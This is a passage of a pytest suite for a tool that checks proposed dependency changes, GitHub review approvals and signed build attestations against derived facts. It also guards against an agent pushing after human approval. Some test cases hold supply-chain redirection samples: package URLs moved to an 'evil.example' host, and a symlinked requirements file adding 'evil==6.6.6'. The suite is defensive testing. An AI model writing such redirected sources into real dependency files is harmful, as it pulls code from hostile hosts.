    before = (path / "package-lock.json").read_bytes()
    document = json.loads(before)
    name = next(iter(document["dependencies"]))
    document["dependencies"][name]["version"] = "9.9.9"
    facts = derive_dependency_changes(
        {"package-lock.json": (before, json.dumps(document).encode())}
    )
    assert [(c.name, c.new) for c in facts.changes] == [(name, "9.9.9")]


@pytest.mark.parametrize(
    ("before", "after"),
    [
        # a wheel URL on its own line, moved to another host
        (b"https://good.example/pkg-1.0.whl", b"https://evil.example/pkg-1.0.whl"),
        # a VCS reference moved to another repository
        (b"git+https://good.example/pkg@v1", b"git+https://evil.example/pkg@v1"),
        # a file: URL
        (b"file:///opt/wheels/pkg-1.0.whl", b"file:///tmp/pkg-1.0.whl"),
    ],
)
def test_a_bare_url_requirement_is_versioned_by_its_url(before: bytes, after: bytes) -> None:
    facts = derive_dependency_changes({"requirements.txt": (before + b"\n", after + b"\n")})
    assert [(c.old, c.new) for c in facts.changes] == [(before.decode(), after.decode())]


# ---------------------------------------------------------------- GitHub reviews
@pytest.mark.parametrize(
    ("commit", "counted"),
    [
        # approved an earlier head; the agent pushed after the approval
        ("0" * 40, False),
        # held: approved the head that is decided
        (None, True),
    ],
)
def test_an_approval_of_an_earlier_head_is_not_an_approval(
    tmp_path: Path, commit: str | None, counted: bool
) -> None:
    from tests.test_facts_github import ASSETS as GITHUB
    from tests.test_facts_github import HUMANS, api_dir, build, review

    event = GITHUB / "pull_request.opened.payload.json"
    head = json.loads(event.read_text())["pull_request"]["head"]["sha"]
    approval = {**review("alice", "APPROVED"), "commit_id": commit or head}
    document = build(event, api_dir(tmp_path, reviews=[approval]), HUMANS)
    assert document["approvals"] == ([{"by": "alice", "type": "human"}] if counted else [])


# ---------------------------------------------------------------- held: shapes of claims
@pytest.mark.parametrize(
    "files",
    [
        # a path that is not text
        [{"path": 7}],
        # an empty path
        [{"path": ""}],
        # a file entry that is not an object
        ["package-lock.json"],
    ],
)
def test_a_malformed_file_list_is_exit_2(tmp_path: Path, files: list[Any]) -> None:
    (tmp_path / "p.json").write_text(json.dumps(_doc(files=files)))
    result = invoke("check", str(tmp_path / "p.json"), "--no-audit")
    assert result.returncode == 2 and "proposal.files" in result.stderr
    assert "Traceback" not in result.stderr


def test_a_lockfile_listed_twice_still_counts() -> None:
    listed = [{"path": "a.py"}, {"path": "yarn.lock"}, {"path": "yarn.lock"}]
    result = reconcile(_doc(files=listed, dependencies={"changed": False}))
    assert result.document["dependencies"]["changed"] is True


@pytest.mark.parametrize(
    "digest",
    [
        # the attested digest in capitals
        HELLO_DIGEST.upper(),
        # the right hex under another algorithm's name
        HELLO_DIGEST.replace("sha256:", "sha512:"),
        # the algorithm in capitals
        HELLO_DIGEST.replace("sha256:", "SHA256:"),
    ],
)
def test_a_digest_spelled_otherwise_receives_no_attestation(tmp_path: Path, digest: str) -> None:
    # Held: attestations attach by the exact lowercase sha256 their subject names.
    pem = (LOCAL / "TEST-ONLY-ed25519.pub.pem").read_bytes()
    trust = EvidenceTrust(keys=(verifying_key_from_pem(pem, "k"),), builders=("*",))
    directory = tmp_path / "dist"
    directory.mkdir()
    shutil.copyfile(LOCAL / "provenance.ed25519.dsse.json", directory / "provenance.dsse.json")
    found = collect(directory, trust, [{"name": "image", "digest": digest}])
    assert "provenance" not in _artifact(found, "image")


def test_two_declared_artifacts_under_one_name_contradict(tmp_path: Path) -> None:
    # Held: the second declaration of "app" with another digest is a contradiction.
    pem = (LOCAL / "TEST-ONLY-ed25519.pub.pem").read_bytes()
    trust = EvidenceTrust(keys=(verifying_key_from_pem(pem, "k"),), builders=("*",))
    directory = tmp_path / "dist"
    directory.mkdir()
    shutil.copyfile(LOCAL / "provenance.ed25519.dsse.json", directory / "provenance.dsse.json")
    declared = [
        {"name": "app", "digest": HELLO_DIGEST},
        {"name": "app", "digest": "sha256:" + "0" * 64},
    ]
    found = collect(directory, trust, declared)
    result = reconcile(_doc(kind="release", artifacts=declared), Facts(artifacts=found.artifacts))
    assert any(c["field"].endswith(".digest") for c in result.contradictions)


def test_a_requirements_file_made_a_symbolic_link_is_unparsed(tmp_path: Path) -> None:
    # requirements.txt becomes a link to a file no rule watches; the link's target
    # path ("deps/real.list") read as text looked like a requirement named "deps".
    root = tmp_path / "repo"
    root.mkdir()
    git(root, "init", "-q", "-b", "main")
    (root / "requirements.txt").write_text("requests==2.31.0\n")
    commit(root, "base")
    git(root, "checkout", "-q", "-b", "feature")
    (root / "deps").mkdir()
    (root / "deps" / "real.list").write_text("requests==2.31.0\nevil==6.6.6\n")
    (root / "requirements.txt").unlink()
    (root / "requirements.txt").symlink_to("deps/real.list")
    commit(root, "move the requirements")
    built = invoke(
        "proposal", "from-git", "--repo", str(root), "--base", "main", "--head", "feature"
    )
    assert built.returncode == 0, built.stderr
    deps = json.loads(built.stdout)["dependencies"]
    assert [u["path"] for u in deps["unparsed"]] == ["requirements.txt"]
    assert "is not a requirement" in deps["unparsed"][0]["reason"]


def test_evidence_given_inline_and_as_a_directory_is_exit_2(tmp_path: Path) -> None:
    # Held: two sources of evidence for one document are refused, not merged.
    directory = tmp_path / "dist"
    directory.mkdir()
    document = _doc(evidence={"files": [{"name": "a", "base64": "aGk="}]})
    (tmp_path / "p.json").write_text(json.dumps(document))
    result = invoke("check", str(tmp_path / "p.json"), "--evidence", str(directory), "--no-audit")
    assert result.returncode == 2 and "inline" in result.stderr
